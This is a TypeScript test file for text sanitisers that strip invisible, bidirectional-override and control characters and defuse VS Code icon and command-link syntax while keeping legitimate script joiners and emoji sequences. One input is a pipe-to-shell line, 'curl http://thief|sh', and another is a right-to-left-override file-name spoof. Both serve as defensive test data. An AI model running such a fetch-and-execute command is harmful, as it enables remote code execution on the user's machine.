import assert from "node:assert/strict";
import fc from "fast-check";
import { oneLine, plainText } from "../../../src/base/plainText";

describe("plainText", () => {
  it("leaves ordinary text unchanged, in any script", () => {
    for (const text of ["Declined", "Иванов Иван", "宮崎 あおい", "a (b) [c] $5"])
      assert.equal(plainText(text), text);
  });

  /** Texts with joiners and selectors that change what one sees. */
  const JOINED = {
    Persian: "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "Persian with a vowel sign": "\u0639\u0650\u200c\u0644",
    Syriac: "\u0710\u200c\u0712",
    Devanagari: "\u0915\u094d\u200d\u0937",
    "a Malayalam word that ends in half a letter": "\u0d05\u0d35\u0d28\u0d4d\u200d one",
    Sinhala: "\u0dc1\u0dca\u200d\u0dbb\u0dd3",
    "a family": "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}",
    "a skin tone": "\u{1f469}\u{1f3fd}\u200d\u{1f4bb}",
    "a flag": "\u{1f3f3}\ufe0f\u200d\u{1f308}",
    "a profession": "\u{1f9d1}\u200d\u2695\ufe0f",
    "a keycap": "1\ufe0f\u20e3",
    "a variant of an ideograph": "\u585a\ufe00",
  };
  for (const [name, text] of Object.entries(JOINED))
    it(`keeps the joiners and selectors of ${name}`, () => assert.equal(plainText(text), text));

  it("removes joiners and selectors that join nothing, in which text can be hidden", () => {
    for (const joiner of ["\u200c", "\u200d", "\ufe0f", "\ufe00"]) {
      assert.equal(plainText(`a${joiner}b`), "a b");
      assert.equal(plainText(`1${joiner}${joiner}2`), "1 2");
      assert.equal(plainText(`${joiner}a${joiner}`), "a");
      assert.equal(plainText(`\u0645${joiner}${joiner}\u06cc`), "\u0645 \u06cc");
      assert.equal(plainText(`\u0645${joiner}a`), "\u0645 a");
    }
    assert.equal(plainText("\u{1f468}\u200c\u{1f469}"), "\u{1f468} \u{1f469}");
    assert.equal(plainText("\u{1f468}\u200d\u200d\u{1f469}"), "\u{1f468} \u{1f469}");
    assert.equal(plainText("\u{1f468}\u200da"), "\u{1f468} a");
    assert.equal(plainText("\u2764\ufe0f\ufe0f\ufe0f!"), "\u2764\ufe0f !");
    assert.equal(plainText("\u0645\u200c\u202e\u06cc"), "\u0645 \u06cc");
  });

  it("does not end a truncated text in a joiner", () => {
    assert.equal(plainText(JOINED["a family"], 3), "\u{1f468}…");
  });

  it("breaks what VS Code would show as an icon or a link, in one line", () => {
    assert.equal(plainText("$(alert) [x](command:y)"), "$ (alert) [x] (command:y)");
    assert.equal(plainText("$(alert) [x](y)"), "$ (alert) [x] (y)");
    assert.equal(plainText("a\r\nb\u2028c\u0000d"), "a b c d");
    assert.doesNotMatch(
      plainText("user\u202egpj.exe\u2066x\u200f"),
      /[\u202a-\u202e\u2066-\u2069\u200e\u200f]/,
    );
  });

  it("returns a short line without control characters for any text", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 2000 }), (text) => {
        const plain = plainText(text);
        assert.ok(Array.from(plain).length <= 200);
        assert.doesNotMatch(plain, /[\n\r\p{Cc}]|\$\(|\]\(/u);
      }),
    );
    assert.equal(plainText("x".repeat(1_000_000)).length, 200);
    assert.equal(plainText("😀😀😀😀", 3), "😀😀…");
    assert.equal(plainText("😀😀😀", 3), "😀😀😀");
    assert.equal(plainText("\n a \n"), "a");
    assert.equal(plainText("😀😀😀", 3), "😀😀😀");
  });
});

describe("oneLine", () => {
  /** Texts with many joiners and selectors, beside letters and emoji that join or not. */
  const joinable = fc
    .array(
      fc.constantFrom(
        ...Array.from(
          "a1# \u200c\u200d\ufe0f\ufe00\u202e\u20e3\u0645\u0650\u0d4d\u585a\u{1f468}\u{1f3fd}\u2695",
        ),
      ),
    )
    .map((characters) => characters.join(""));

  it("changes nothing visible", () => {
    for (const text of ["$(alert) [x](command:y)", "7e7e-x_1/Ü", "x".repeat(5000)])
      assert.equal(oneLine(text), text);
  });

  it("removes characters in which text could hide: fillers, blank Braille, selectors", () => {
    for (const hidden of ["\u034f", "\u115f", "\u3164", "\uffa0", "\u2800", "\u{e0100}", "\u{e01ef}"])
      assert.equal(oneLine(`a${hidden}b`), "a b", hidden.codePointAt(0)?.toString(16));
  });

  it("returns one line without control and invisible characters for any text, and keeps the rest", () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: "binary", maxLength: 2000 }), joinable), (text) => {
        const line = oneLine(text);
        assert.doesNotMatch(line, /(?![\u200c\u200d])[\p{C}\p{Zl}\p{Zp}]/u);
        assert.doesNotMatch(line, /^[\u200c\u200d]|[ -~\u200c\u200d][\u200c\u200d]|[\u200c\u200d][ -~]{2}/);
        assert.equal(oneLine(line), line);
        const seen = (all: string): string =>
          all.replace(
            /[\p{C}\p{Z}\s\u115f\u1160\u2800\u3164\uffa0]|\u034f|[\ufe00-\ufe0f]|[\u{e0100}-\u{e01ef}]/gu,
            "",
          );
        assert.equal(seen(line), seen(text));
      }),
    );
    assert.equal(oneLine("id\r\ncurl http://thief|sh\n"), "id curl http://thief|sh");
    assert.equal(oneLine("a\u202eb\u2066\u200bc\u2028d\u0085e"), "a b c d e");
  });
});
